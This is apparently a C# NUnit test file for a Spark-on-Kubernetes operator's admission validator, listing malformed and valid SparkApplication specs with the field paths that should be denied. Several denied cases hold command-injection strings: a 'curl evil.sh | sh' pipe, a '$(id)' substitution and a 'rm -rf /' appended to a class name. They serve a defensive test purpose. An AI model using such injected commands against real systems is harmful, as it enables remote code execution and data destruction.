using k8s.Models;
using SparkOperator.Entities;

namespace SparkOperator.Tests.Validation;

/// <summary>One test per rule: the valid application passes; breaking one field is denied at exactly that field's path.</summary>
public class SparkApplicationRulesTests
{
    private static TestCaseData Bad(string name, Action<SparkApplication> breakIt, string path, string message) =>
        new TestCaseData(breakIt, path, message).SetName("Denies " + name);

    private static TestCaseData Good(string name, Action<SparkApplication> change) =>
        new TestCaseData(change).SetName("Accepts " + name);

    // The valid application's two volumes, then empty dirs up to count.
    private static List<V1Volume> ManyVolumes(int count) =>
        ValidApplication.Create().Spec.Volumes!.Concat(Enumerable.Range(0, count - 2).Select(i => new V1Volume { Name = $"v{i}", EmptyDir = new() })).ToList();

    private static readonly string Hex64 = new('a', 64);

    public static IEnumerable<TestCaseData> BadCases()
    {
        // Dependencies
        yield return Bad("a package without version", a => a.Spec.Deps!.Packages = ["org.example:lib"], "spec.deps.packages[0]", "Maven coordinate");
        yield return Bad("a package list joined with commas", a => a.Spec.Deps!.Packages = ["a:b:1,c:d:2"], "spec.deps.packages[0]", "Maven coordinate");
        yield return Bad("an exclusion with a version", a => a.Spec.Deps!.ExcludePackages = ["org.slf4j:slf4j-api", "a:b:1"], "spec.deps.excludePackages[1]", "group:artifact");
        yield return Bad("a relative repository", a => a.Spec.Deps!.Repositories = ["repo1.maven.org/maven2"], "spec.deps.repositories[0]", "absolute http");
        yield return Bad("an ftp repository", a => a.Spec.Deps!.Repositories = ["ftp://repo.example.com/m2"], "spec.deps.repositories[0]", "absolute http");
        yield return Bad("a repository with credentials", a => a.Spec.Deps!.Repositories = ["https://user:secret@repo.example.com/m2"], "spec.deps.repositories[0]", "credentials");
        yield return Bad("a pip option", a => a.Spec.Deps!.Requirements = ["--index-url https://evil.example.com"], "spec.deps.requirements[0]", "pip requirement");
        yield return Bad("a pip requirements file", a => a.Spec.Deps!.Requirements = ["tabulate", "-r requirements.txt"], "spec.deps.requirements[1]", "pip requirement");
        yield return Bad("shell in a requirement", a => a.Spec.Deps!.Requirements = ["tabulate && curl evil.sh | sh"], "spec.deps.requirements[0]", "pip requirement");
        yield return Bad("a command substitution in a marker", a => a.Spec.Deps!.Requirements = ["tabulate; $(id)"], "spec.deps.requirements[0]", "pip requirement");
        yield return Bad("an empty requirement", a => a.Spec.Deps!.Requirements = [""], "spec.deps.requirements[0]", "must not be empty");
        yield return Bad("an unknown scheme", a => a.Spec.MainApplicationFile = "ftp://host/app.jar", "spec.mainApplicationFile", "scheme 'ftp'");
        yield return Bad("s3:// instead of s3a://", a => a.Spec.MainApplicationFile = "s3://bucket/app.jar", "spec.mainApplicationFile", "s3a://");
        yield return Bad("local:// with a relative path", a => a.Spec.MainApplicationFile = "local://opt/app.jar", "spec.mainApplicationFile", "absolute path");
        yield return Bad("a relative path", a => a.Spec.MainApplicationFile = "jobs/app.jar", "spec.mainApplicationFile", "absolute path");
        yield return Bad("a missing application file", a => a.Spec.MainApplicationFile = "", "spec.mainApplicationFile", "is required");
        yield return Bad("a bucket without a key", a => a.Spec.MainApplicationFile = "s3a://bucket", "spec.mainApplicationFile", "file path");
        yield return Bad("a jar without mainClass", a => a.Spec.MainClass = null, "spec.mainClass", "required for a JVM application");
        yield return Bad("a Python file with mainClass", a => a.Spec.MainApplicationFile = "local:///app/main.py", "spec.mainClass", "must not be set for a Python application");
        yield return Bad("a mainClass that is not a class name", a => a.Spec.MainClass = "org.example.App; rm -rf /", "spec.mainClass", "Java class name");

        // Volumes
        yield return Bad("a volume name that is not a DNS label", a => a.Spec.Volumes!.Add(new V1Volume { Name = "Scratch_Dir", EmptyDir = new() }), "spec.volumes[2].name", "DNS-1123 label");
        yield return Bad("duplicate volume names", a => a.Spec.Volumes!.Add(new V1Volume { Name = "data", EmptyDir = new() }), "spec.volumes[2].name", "duplicate volume name 'data'");
        yield return Bad("a volume without a source", a => a.Spec.Volumes![1].EmptyDir = null, "spec.volumes[1]", "exactly one source");
        yield return Bad("a volume with two sources", a => a.Spec.Volumes![1].HostPath = new V1HostPathVolumeSource { Path = "/tmp" }, "spec.volumes[1]", "has 2 (emptyDir, hostPath)");
        yield return Bad("a claim without a name", a => a.Spec.Volumes![0].PersistentVolumeClaim.ClaimName = "", "spec.volumes[0].persistentVolumeClaim.claimName", "PersistentVolumeClaim");
        yield return Bad("an executor mount of an undeclared volume", a => a.Spec.Executor!.VolumeMounts![1].Name = "nope", "spec.executor.volumeMounts[1].name", "does not declare");
        yield return Bad("a driver mount of an undeclared volume", a => a.Spec.Driver!.VolumeMounts![0].Name = "nope", "spec.driver.volumeMounts[0].name", "does not declare");
        yield return Bad("a job mount of an undeclared volume", a => a.Spec.Job!.VolumeMounts = [new V1VolumeMount { Name = "nope", MountPath = "/x" }], "spec.job.volumeMounts[0].name", "does not declare");
        yield return Bad("a relative mount path", a => a.Spec.Driver!.VolumeMounts![0].MountPath = "data", "spec.driver.volumeMounts[0].mountPath", "absolute path");
        yield return Bad("a mount path with ..", a => a.Spec.Driver!.VolumeMounts![0].MountPath = "/data/../etc", "spec.driver.volumeMounts[0].mountPath", "'..'");
        yield return Bad("duplicate mount paths in one role", a => a.Spec.Executor!.VolumeMounts![1].MountPath = "/data/", "spec.executor.volumeMounts[1].mountPath", "duplicate mountPath");
        yield return Bad("a mount on the jobs directory", a => a.Spec.Executor!.VolumeMounts![1].MountPath = "/spark/jobs", "spec.executor.volumeMounts[1].mountPath", "/spark/jobs");
        yield return Bad("a mount above the operator's directories", a => a.Spec.Driver!.VolumeMounts![0].MountPath = "/spark", "spec.driver.volumeMounts[0].mountPath", "which the operator mounts itself");
        yield return Bad("a mount inside the ivy directory", a => a.Spec.Driver!.VolumeMounts![0].MountPath = "/spark/ivy/cache", "spec.driver.volumeMounts[0].mountPath", "/spark/ivy");
        yield return Bad("a mount on the pod templates", a => a.Spec.Job!.VolumeMounts = [new V1VolumeMount { Name = "data", MountPath = "/spark/pod-templates" }], "spec.job.volumeMounts[0].mountPath", "/spark/pod-templates");
        yield return Bad("a mount on the requirements", a => a.Spec.Executor!.VolumeMounts![1].MountPath = "/spark/python-deps", "spec.executor.volumeMounts[1].mountPath", "/spark/python-deps");
        yield return Bad("a mount on /", a => a.Spec.Driver!.VolumeMounts![0].MountPath = "/", "spec.driver.volumeMounts[0].mountPath", "which the operator mounts itself");
        yield return Bad("an absolute subPath", a => a.Spec.Executor!.VolumeMounts![1].SubPath = "/tmp", "spec.executor.volumeMounts[1].subPath", "relative path");
        yield return Bad("a subPath leaving the volume", a => a.Spec.Executor!.VolumeMounts![1].SubPath = "a/../../etc", "spec.executor.volumeMounts[1].subPath", "'..'");

        // Image and pulling
        yield return Bad("an upper-case repository", a => a.Spec.SparkImage = "Apache/Spark:4.1.1", "spec.sparkImage", "not a valid image reference");
        yield return Bad("an empty tag", a => a.Spec.SparkImage = "apache/spark:", "spec.sparkImage", "tag");
        yield return Bad("a short digest", a => a.Spec.SparkImage = "apache/spark@sha256:abc", "spec.sparkImage", "digest");
        yield return Bad("a space in the image", a => a.Spec.SparkImage = "apache/spark 4", "spec.sparkImage", "not a valid image reference");
        yield return Bad("a missing sparkImage", a => a.Spec.SparkImage = "", "spec.sparkImage", "is required");
        yield return Bad("an invalid job image", a => a.Spec.Image = "registry.example.com/Jobs:1", "spec.image", "not a valid image reference");
        yield return Bad("an unknown pull policy", a => a.Spec.SparkImagePullPolicy = (ImagePullPolicy)7, "spec.sparkImagePullPolicy", "Always, IfNotPresent or Never");
        yield return Bad("an invalid pull secret name", a => a.Spec.SparkImagePullSecrets = [new V1LocalObjectReference { Name = "Registry_Creds" }], "spec.sparkImagePullSecrets[0].name", "DNS-1123 subdomain");
        yield return Bad("duplicate pull secrets", a => a.Spec.SparkImagePullSecrets = [new() { Name = "registry" }, new() { Name = "registry" }], "spec.sparkImagePullSecrets[1].name", "duplicate pull secret");

        // Resources
        yield return Bad("zero cores", a => a.Spec.Driver!.Cores = 0, "spec.driver.cores", "at least 1");
        yield return Bad("a coreLimit that is not a quantity", a => a.Spec.Driver!.CoreLimit = "1.2 cores", "spec.driver.coreLimit", "Kubernetes quantity");
        yield return Bad("coreRequest above coreLimit", a => { a.Spec.Driver!.CoreRequest = "2"; a.Spec.Driver.CoreLimit = "1500m"; }, "spec.driver.coreLimit", "less than coreRequest (2)");
        yield return Bad("a coreRequest that is not a quantity", a => a.Spec.Executor!.CoreRequest = "half", "spec.executor.coreRequest", "positive Kubernetes quantity");
        yield return Bad("a zero coreRequest", a => a.Spec.Executor!.CoreRequest = "0", "spec.executor.coreRequest", "positive Kubernetes quantity");
        yield return Bad("coreRequest above the cpu limit", a => { a.Spec.Driver!.CoreRequest = "2"; a.Spec.Driver.CoreLimit = null; a.Spec.Driver.Resources = new V1ResourceRequirements { Limits = new Dictionary<string, ResourceQuantity> { ["cpu"] = new("1") } }; }, "spec.driver.resources.limits[cpu]", "does not fit");
        yield return Bad("a role image that is not a reference", a => a.Spec.Executor!.Image = "Not An Image", "spec.executor.image", "not a valid image reference");
        yield return Bad("a zero failure retry interval", a => a.Spec.RestartPolicy = new RestartPolicy { Type = RestartPolicyType.OnFailure, OnFailureRetryIntervalSeconds = 0 }, "spec.restartPolicy.onFailureRetryIntervalSeconds", "at least 1 second");
        yield return Bad("a zero submission retry interval", a => a.Spec.RestartPolicy = new RestartPolicy { Type = RestartPolicyType.OnFailure, OnSubmissionFailureRetryIntervalSeconds = 0 }, "spec.restartPolicy.onSubmissionFailureRetryIntervalSeconds", "at least 1 second");
        yield return Bad("a zero run timeout", a => a.Spec.RunTimeoutSeconds = 0, "spec.runTimeoutSeconds", "at least 1 second");
        yield return Bad("S3 TLS without verification", a => a.Spec.S3connection = new S3Connection { Endpoint = "https://minio:9000", Tls = new S3Tls { Verify = false } }, "spec.s3connection.tls.verify", "caSecret");
        yield return Bad("cores above coreLimit", a => { a.Spec.Executor!.Cores = 2; a.Spec.Executor.CoreLimit = "1500m"; }, "spec.executor.coreLimit", "does not fit");
        yield return Bad("a coreLimit below the default core", a => { a.Spec.Driver!.Cores = null; a.Spec.Driver.CoreLimit = "500m"; }, "spec.driver.coreLimit", "does not fit");
        yield return Bad("Kubernetes notation for Spark memory", a => a.Spec.Executor!.Memory = "2Gi", "spec.executor.memory", "Spark's notation");
        yield return Bad("a nonsense memory overhead", a => a.Spec.Driver!.MemoryOverhead = "lots", "spec.driver.memoryOverhead", "Spark's notation");
        yield return Bad("requests above limits", a => a.Spec.Job!.Resources!.Limits["memory"] = new ResourceQuantity("128Mi"), "spec.job.resources.requests[memory]", "less than or equal to the limit");
        yield return Bad("cores above the cpu limit", a => a.Spec.Driver!.Resources = new V1ResourceRequirements { Limits = new Dictionary<string, ResourceQuantity> { ["cpu"] = new("500m") } }, "spec.driver.resources.limits[cpu]", "does not fit");
        yield return Bad("zero executors without dynamic allocation", a => a.Spec.Executor!.Instances = 0, "spec.executor.instances", "dynamic allocation");
        yield return Bad("negative executors", a => a.Spec.Executor!.Instances = -1, "spec.executor.instances", "must not be negative");
        yield return Bad("a GPU without a vendor domain", a => a.Spec.Executor!.Gpu = new GpuSpec { Name = "gpu", Quantity = 1 }, "spec.executor.gpu.name", "extended resource");
        yield return Bad("zero GPUs", a => a.Spec.Executor!.Gpu = new GpuSpec { Name = "nvidia.com/gpu", Quantity = 0 }, "spec.executor.gpu.quantity", "at least 1");

        // sparkConf, mode and the rest
        yield return Bad("spark.master in sparkConf", a => a.Spec.SparkConf!["spark.master"] = "local[*]", "spec.sparkConf[spark.master]", "is set by the operator");
        yield return Bad("the image in sparkConf", a => a.Spec.SparkConf!["spark.kubernetes.container.image"] = "x:1", "spec.sparkConf[spark.kubernetes.container.image]", "use spec.sparkImage instead");
        yield return Bad("the deploy mode in sparkConf", a => a.Spec.SparkConf!["spark.submit.deployMode"] = "client", "spec.sparkConf[spark.submit.deployMode]", "spec.mode");
        yield return Bad("an empty sparkConf key", a => a.Spec.SparkConf![" "] = "x", "spec.sparkConf[ ]", "keys must not be empty");
        yield return Bad("client mode", a => a.Spec.Mode = DeployMode.Client, "spec.mode", "only cluster mode is supported");
        yield return Bad("an unnamed environment variable", a => a.Spec.Env = [new V1EnvVar { Name = "" }], "spec.env[0].name", "variable name");
        yield return Bad("an invalid pod label", a => a.Spec.Driver!.Labels = new Dictionary<string, string> { ["team"] = "data science" }, "spec.driver.labels[team]", "label value");
        yield return Bad("an invalid node selector key", a => a.Spec.Executor!.NodeSelector = new Dictionary<string, string> { ["-bad"] = "x" }, "spec.executor.nodeSelector[-bad]", "not a valid key");
        yield return Bad("an S3 endpoint without scheme", a => a.Spec.S3connection = new S3Connection { Endpoint = "minio:9000" }, "spec.s3connection.endpoint", "http");
        yield return Bad("an invalid S3 secret name", a => a.Spec.S3connection = new S3Connection { CredentialsSecret = new S3CredentialsSecret { Name = "S3 creds" } }, "spec.s3connection.credentialsSecret.name", "Secret");
        yield return Bad("negative retries", a => a.Spec.RestartPolicy = new RestartPolicy { OnFailureRetries = -1 }, "spec.restartPolicy.onFailureRetries", "must not be negative");
        yield return Bad("a negative time to live", a => a.Spec.TimeToLiveSeconds = -5, "spec.timeToLiveSeconds", "must not be negative");
        yield return Bad("a zero driver start timeout", a => a.Spec.DriverStartTimeoutSeconds = 0, "spec.driverStartTimeoutSeconds", "at least 1");

        // Sanity limits
        yield return Bad("1001 volumes", a => a.Spec.Volumes = ManyVolumes(1001), "spec.volumes", "at most 1000 items");
        yield return Bad("1001 args", a => a.Spec.Args = Enumerable.Range(0, 1001).Select(i => $"{i}").ToList(), "spec.args", "at most 1000 items");
        yield return Bad("1001 sparkConf entries", a => a.Spec.SparkConf = Enumerable.Range(0, 1001).ToDictionary(i => $"spark.x{i}", i => "1"), "spec.sparkConf", "at most 1000 items");
        yield return Bad("a 5000-character application file", a => a.Spec.MainApplicationFile = "local:///" + new string('a', 5000) + ".jar", "spec.mainApplicationFile", "at most 4096 characters");
        yield return Bad("a 100 KiB argument", a => a.Spec.Args = [new string('x', 100 * 1024)], "spec.args[0]", "at most 65536 characters");
    }

    public static IEnumerable<TestCaseData> GoodCases()
    {
        yield return Good("the valid application unchanged", _ => { });
        yield return Good("a package with classifier", a => a.Spec.Deps!.Packages = ["org.example:lib:1.0.0:tests"]);
        yield return Good("an http repository", a => a.Spec.Deps!.Repositories = ["http://nexus.internal:8081/repository/maven-public/"]);
        yield return Good("PEP 508 requirements", a => a.Spec.Deps!.Requirements =
            ["requests[security,socks]>=2.31,<3", "numpy; python_version >= \"3.9\"", "pandas (>=2.0)", "Django~=4.2.0", "pkg @ https://example.com/pkg-1.0-py3-none-any.whl", "torch==2.*", "name.with-dots_and_underscores===1.0+local"]);
        yield return Good("an absolute path", a => a.Spec.MainApplicationFile = "/opt/app/app.jar");
        yield return Good("file://", a => a.Spec.MainApplicationFile = "file:///opt/app/app.jar");
        yield return Good("s3a://", a => a.Spec.MainApplicationFile = "s3a://bucket/jobs/app.jar");
        yield return Good("https://", a => a.Spec.MainApplicationFile = "https://artifacts.example.com/app.jar?version=1");
        yield return Good("hdfs:/// with the default name node", a => a.Spec.MainApplicationFile = "hdfs:///apps/app.jar");
        yield return Good("gs://", a => a.Spec.MainApplicationFile = "gs://bucket/app.jar");
        yield return Good("abfss://", a => a.Spec.MainApplicationFile = "abfss://jobs@account.dfs.core.windows.net/app.jar");
        yield return Good("wasbs://", a => a.Spec.MainApplicationFile = "wasbs://jobs@account.blob.core.windows.net/app.jar");
        yield return Good("a Python application without mainClass", a => { a.Spec.MainApplicationFile = "local:///app/main.py"; a.Spec.MainClass = null; });
        yield return Good("a registry with port, tag and digest", a => a.Spec.SparkImage = $"registry.example.com:5000/team/spark-k8s:4.1.1-python3@sha256:{Hex64}");
        yield return Good("a digest without tag", a => a.Spec.SparkImage = $"apache/spark@sha256:{Hex64}");
        yield return Good("localhost registry", a => a.Spec.SparkImage = "localhost/spark:dev");
        yield return Good("an IPv6 registry", a => a.Spec.Image = "[fd00::1]:5000/jobs:1");
        yield return Good("zero executors with dynamic allocation", a => { a.Spec.Executor!.Instances = 0; a.Spec.SparkConf!["spark.dynamicAllocation.enabled"] = "true"; });
        yield return Good("Stackable's cpu min 1, max 1500m as cores 2, coreRequest 1, coreLimit 1500m", a => { a.Spec.Driver!.Cores = 2; a.Spec.Driver.CoreRequest = "1"; a.Spec.Driver.CoreLimit = "1500m"; });
        yield return Good("a fractional coreRequest below the default core", a => { a.Spec.Executor!.CoreRequest = "250m"; a.Spec.Executor.CoreLimit = "500m"; });
        yield return Good("a job coreLimit below one core", a => a.Spec.Job!.CoreLimit = "300m");
        yield return Good("a role image", a => a.Spec.Driver!.Image = "registry.example/spark-driver:4.1.1");
        yield return Good("S3 TLS verified", a => a.Spec.S3connection = new S3Connection { Endpoint = "https://minio:9000", Tls = new S3Tls { Verify = true } });
        yield return Good("a one second retry interval", a => a.Spec.RestartPolicy = new RestartPolicy { Type = RestartPolicyType.OnFailure, OnFailureRetryIntervalSeconds = 1, OnSubmissionFailureRetryIntervalSeconds = 1 });
        yield return Good("cores equal to coreLimit", a => { a.Spec.Executor!.Cores = 2; a.Spec.Executor.CoreLimit = "2"; });
        yield return Good("an integer coreLimit", a => a.Spec.Driver!.CoreLimit = 3);
        yield return Good("requests equal to limits", a => a.Spec.Job!.Resources!.Limits["memory"] = new ResourceQuantity("256Mi"));
        yield return Good("a mount next to the operator's directories", a => a.Spec.Driver!.VolumeMounts![0].MountPath = "/spark/data");
        yield return Good("the same mount path in two roles", a => a.Spec.Job!.VolumeMounts = [new V1VolumeMount { Name = "data", MountPath = "/data" }]);
        yield return Good("1000 volumes", a => a.Spec.Volumes = ManyVolumes(1000));
        yield return Good("qualified labels", a => a.Spec.Driver!.Labels = new Dictionary<string, string> { ["app.kubernetes.io/part-of"] = "analytics", ["empty"] = "" });
        yield return Good("a minimal spec", a => a.Spec = new SparkApplicationSpec { SparkImage = "apache/spark:4.1.1", MainApplicationFile = "local:///opt/app.py" });
    }

    [TestCaseSource(nameof(BadCases))]
    public void Bad_form_is_denied_at_its_path(Action<SparkApplication> breakIt, string path, string message)
    {
        var application = ValidApplication.Create();
        breakIt(application);

        var result = ValidApplication.Validate(application);

        Assert.That(result.IsAllowed, Is.False);
        Assert.That(result.Errors.Select(e => e.Path).ToList(), Is.EqualTo(new List<string> { path }), string.Join("\n", result.Errors));
        Assert.That(result.Errors[0].Message, Does.Contain(message));
    }

    [TestCaseSource(nameof(GoodCases))]
    public void Good_form_is_allowed(Action<SparkApplication> change)
    {
        var application = ValidApplication.Create();
        change(application);

        var result = ValidApplication.Validate(application);

        Assert.That(result.Errors, Is.Empty);
    }

    [Test]
    public void All_errors_of_one_object_are_reported_together()
    {
        var application = ValidApplication.Create();
        application.Spec.Mode = DeployMode.Client;
        application.Spec.Driver!.Cores = 0;
        application.Spec.Executor!.VolumeMounts![1].Name = "nope";
        application.Spec.SparkConf!["spark.master"] = "local";

        var result = ValidApplication.Validate(application);

        Assert.That(result.Errors.Select(e => e.Path), Is.EquivalentTo(new[]
        {
            "spec.mode", "spec.driver.cores", "spec.executor.volumeMounts[1].name", "spec.sparkConf[spark.master]",
        }));
    }

    [Test]
    public void Validation_is_cheap_enough_for_the_admission_path()
    {
        var validator = new SparkOperator.Validation.SparkApplicationAdmissionValidator();
        var application = ValidApplication.Create();
        validator.Validate(application, null, SparkOperator.Framework.Webhooks.AdmissionOperation.Create, false, CancellationToken.None);

        var watch = System.Diagnostics.Stopwatch.StartNew();
        for (var i = 0; i < 1000; i++)
        {
            validator.Validate(application, application, SparkOperator.Framework.Webhooks.AdmissionOperation.Create, false, CancellationToken.None);
        }

        TestContext.Out.WriteLine($"{watch.Elapsed.TotalMilliseconds / 1000:F3} ms per validation");
        Assert.That(watch.Elapsed, Is.LessThan(TimeSpan.FromSeconds(10)), "10 ms per review is the most the API server should wait on us");
    }
}
